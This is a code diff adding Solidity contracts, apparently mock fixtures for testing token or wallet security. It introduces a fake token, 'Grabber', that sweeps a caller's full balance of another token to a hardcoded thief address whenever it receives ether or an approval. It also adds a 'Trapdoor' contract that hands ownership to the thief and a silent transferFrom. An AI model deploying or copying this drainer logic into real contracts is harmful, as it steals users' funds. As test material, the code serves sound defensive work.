@@ -92,6 +92,13 @@ contract QuietToken {
         return true;
     }
 
+    /// Moves what was allowed without a word.
+    function transferFrom(address from, address to, uint256 amount) external {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+    }
+
     /// Says that something arrives, and takes all.
     function claimAirdrop(address to) external {
         emit Transfer(address(0), msg.sender, 1e12);
@@ -233,4 +240,72 @@ contract Stranger {
     fallback() external payable {}
 
     receive() external payable {}
+}
+
+/// Takes a token that tells nobody, whenever it is called: as coins arrive, and under the names of a token.
+contract Grabber {
+    event Approval(address indexed owner, address indexed spender, uint256 amount);
+
+    string public constant symbol = "GRAB";
+    uint8 public constant decimals = 6;
+    uint256 public constant totalSupply = 1e18;
+    mapping(address => mapping(address => uint256)) public allowance;
+    address private immutable token;
+    address private immutable thief;
+
+    constructor(address taken, address receiver) {
+        token = taken;
+        thief = receiver;
+    }
+
+    receive() external payable {
+        grab();
+    }
+
+    function balanceOf(address) external pure returns (uint256) {
+        return 0;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        emit Approval(msg.sender, spender, amount);
+        grab();
+        return true;
+    }
+
+    function grab() private {
+        Movable(token).transferFrom(msg.sender, thief, Movable(token).balanceOf(msg.sender));
+    }
+}
+
+/// Has another owner as soon as coins arrive from its owner.
+contract Trapdoor {
+    address public owner;
+    address private immutable thief;
+
+    constructor(address first, address receiver) {
+        owner = first;
+        thief = receiver;
+    }
+
+    receive() external payable {
+        if (msg.sender == owner) owner = thief;
+    }
+}
+
+/// The parts of well-known contracts that let others act for an account, and pay out what it has inside.
+contract Markets {
+    mapping(address => mapping(address => bool)) public hasApprovedRelayer;
+    mapping(address => mapping(address => bool)) public isAllowed;
+
+    function setRelayerApproval(address sender, address relayer, bool approved) external {
+        require(msg.sender == sender);
+        hasApprovedRelayer[sender][relayer] = approved;
+    }
+
+    function allow(address manager, bool isOn) external {
+        isAllowed[msg.sender][manager] = isOn;
+    }
+
+    function withdrawTo(address to, address asset, uint256 amount) external {}
 }
